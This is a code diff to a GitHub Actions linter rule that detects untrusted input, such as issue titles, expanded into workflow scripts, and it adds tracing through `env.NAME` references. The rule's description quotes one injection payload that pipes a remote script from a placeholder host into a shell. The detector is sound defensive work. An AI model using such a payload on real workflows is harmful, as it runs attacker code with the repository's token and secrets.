@@ -7,7 +7,7 @@ import { Fix, Rule } from '../model';
 import { eolOf } from '../text';
 import { MappedText, basename, programWords, splitShell, ShellWord } from '../dockerfile/shell';
 import { PINS } from '../ci/pins';
-import { JobInfo, StepInfo, WorkflowModel, mappedRange, nodeRange, scalarAt, scalarSource, stringOf } from './model';
+import { JobInfo, StepInfo, WorkflowModel, mappedRange, nodeRange, pairOf, scalarAt, scalarSource, stringOf } from './model';
 
 export type WorkflowRule = Rule<WorkflowModel>;
 
@@ -190,6 +190,32 @@ function scriptsOf(step: StepInfo): Scalar[] {
   return out;
 }
 
+const ENV_REF = /^\s*env\s*\.\s*([A-Za-z_][\w-]*)\s*$/;
+
+/**
+ * The untrusted context an `env.NAME` expression stands for in a step: the step's own `env`
+ * wins over the job's, the job's over the workflow's (as GitHub resolves them).
+ */
+function untrustedEnv(model: WorkflowModel, job: JobInfo, step: StepInfo, name: string): string | undefined {
+  for (const env of [step.env, job.env, model.env]) {
+    const value = pairOf(env, name)?.value;
+    if (value === undefined) continue;
+    return isScalar(value) && typeof value.value === 'string' ? untrustedContextIn(value.value) : undefined;
+  }
+  return undefined;
+}
+
+/** The first untrusted context of any expression in a text. */
+function untrustedContextIn(text: string): string | undefined {
+  EXPRESSION_IN.lastIndex = 0;
+  for (let m = EXPRESSION_IN.exec(text); m; m = EXPRESSION_IN.exec(text)) {
+    const c = untrustedContext(m[1]);
+    if (c) return c;
+  }
+  return undefined;
+}
+const EXPRESSION_IN = /\$\{\{([\s\S]*?)\}\}/g;
+
 export const scriptInjection: WorkflowRule = {
   id: 'gha-script-injection',
   title: 'Untrusted input expanded in a script',
@@ -197,19 +223,23 @@ export const scriptInjection: WorkflowRule = {
   appliesTo: 'github-workflow',
   references: ['CICD-SEC-4'],
   description: 'GitHub substitutes `${{ … }}` into the script text before the shell runs it. An issue or pull request title, a branch name, a commit message or a comment is written by whoever opens it: a title like `a"; curl evil.sh | sh; "` becomes shell code that runs with the workflow\'s token and secrets.',
-  remediation: 'Pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ github.event.issue.title }} }` then `echo "$TITLE"`. No fix is offered: the variable changes how the value is quoted, which only you can check.',
+  remediation: 'Pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ github.event.issue.title }} }` then `echo "$TITLE"` (not `${{ env.TITLE }}`, which is substituted into the text the same way). No fix is offered: the variable changes how the value is quoted, which only you can check.',
   check(model, report) {
-    for (const [, step] of allSteps(model)) {
+    for (const [job, step] of allSteps(model)) {
       for (const script of scriptsOf(step)) {
         const src = scalarSource(model, script);
         EXPRESSION.lastIndex = 0;
         for (let m = EXPRESSION.exec(src.text); m; m = EXPRESSION.exec(src.text)) {
+          const range = mappedRange(model, src, m.index, m.index + m[0].length);
           const context = untrustedContext(m[1]);
-          if (!context) continue;
-          report({
-            message: `${context} is written by whoever triggers the workflow and is expanded into the script: pass it through env: and quote the variable.`,
-            range: mappedRange(model, src, m.index, m.index + m[0].length),
-          });
+          if (context) {
+            report({ message: `${context} is written by whoever triggers the workflow and is expanded into the script: pass it through env: and quote the variable.`, range });
+            continue;
+          }
+          // `${{ env.TITLE }}` is substituted into the text just the same: only "$TITLE" is safe.
+          const name = ENV_REF.exec(m[1])?.[1];
+          const via = name ? untrustedEnv(model, job, step, name) : undefined;
+          if (via) report({ message: `env.${name} holds ${via}, and \${{ env.${name} }} is expanded into the script: use "$${name}" instead.`, range });
         }
       }
     }
